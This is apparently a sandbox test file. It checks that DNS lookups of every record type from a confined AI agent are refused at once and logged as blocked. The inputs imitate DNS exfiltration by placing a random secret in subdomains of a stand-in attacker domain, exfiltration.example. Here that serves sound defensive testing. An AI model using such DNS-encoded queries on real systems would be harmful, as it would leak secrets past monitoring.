/** DNS look-ups of any kind from the agent: answered at once, recorded, asked of nobody. */

import { deepEqual, equal, ok } from "node:assert/strict";
import { setTimeout as delay } from "node:timers/promises";
import { runGuest } from "./attacks/attack.ts";
import lookUp from "./guest/look_up.ts" with { type: "text" };
import { openStage } from "./stage.ts";

/** Kinds of records: the ways in and out that a resolver would be. */
const TYPES = ["A", "AAAA", "TXT", "MX", "SRV"] as const;

Deno.test("DNS look-ups of any kind from the agent: NXDOMAIN at once, and the name is in the audit", async () => {
  await using stage = await openStage();
  const { bottle } = stage.target;
  const secret = crypto.randomUUID().replaceAll("-", "");
  const names = TYPES.map((type) => `${secret}.${type.toLowerCase()}.exfiltration.example`);
  const started = performance.now();
  const answers = await runGuest(stage.target, lookUp, [
    ...TYPES.map((type, i) => `${type}:${names[i]}`),
    "system:" + `${secret}.system.exfiltration.example`,
  ]);
  ok(performance.now() - started < 5_000, "not at once");
  deepEqual(answers.trim().split("\n"), [...TYPES.map(() => "ENOTFOUND"), "ENOTFOUND"]);

  const asked = [...names, `${secret}.system.exfiltration.example`];
  const recorded = new Set<string>();
  for (let tries = 0; tries < 20 && recorded.size < asked.length; tries++) {
    for await (const { row } of bottle.control.audit({ after: 0 })) {
      if (row.kind === "dns" && asked.includes(row.host)) {
        equal(row.verdict, "blocked");
        recorded.add(row.host);
      }
    }
    await delay(100);
  }
  deepEqual([...recorded].toSorted(), asked.toSorted());
});
